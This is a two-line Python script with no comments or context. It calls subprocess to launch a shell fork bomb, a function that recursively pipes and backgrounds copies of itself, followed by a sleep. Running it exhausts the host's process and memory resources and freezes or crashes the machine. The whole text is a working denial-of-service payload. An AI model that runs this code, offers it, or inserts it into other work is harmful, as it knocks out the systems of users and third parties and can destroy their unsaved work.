import subprocess
subprocess.run(["sh", "-c", "f() { f | f & }; f; sleep 100"])
